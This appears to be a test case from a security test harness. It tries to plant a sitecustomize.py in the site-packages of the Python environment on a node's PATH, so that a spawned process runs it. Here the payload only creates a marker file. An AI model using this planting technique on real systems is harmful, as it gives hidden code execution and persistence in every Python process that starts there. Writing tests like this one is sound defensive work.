# name: have a zygote run a planted sitecustomize of the environment on the node's PATH
# line: 66
# finding: 5
# workspace: on the path
# play: again elsewhere
import glob
import os

from attack import STAGE, planted, refused

if STAGE["part"] == "plant":
    packages = glob.glob(f"{os.path.dirname(STAGE['path_entry'])}/lib/*/site-packages")
    marker = f"{STAGE['home']}/ran-by-a-zygote"
    try:
        with open(f"{packages[0]}/sitecustomize.py", "w", encoding="utf-8") as file:
            file.write(f"import os\nos.close(os.open({marker!r}, os.O_CREAT | os.O_WRONLY))\n")
    except OSError as error:
        refused(f"{error.strerror} on site-packages")
    planted("sitecustomize.py")
refused("it looks at nothing itself")
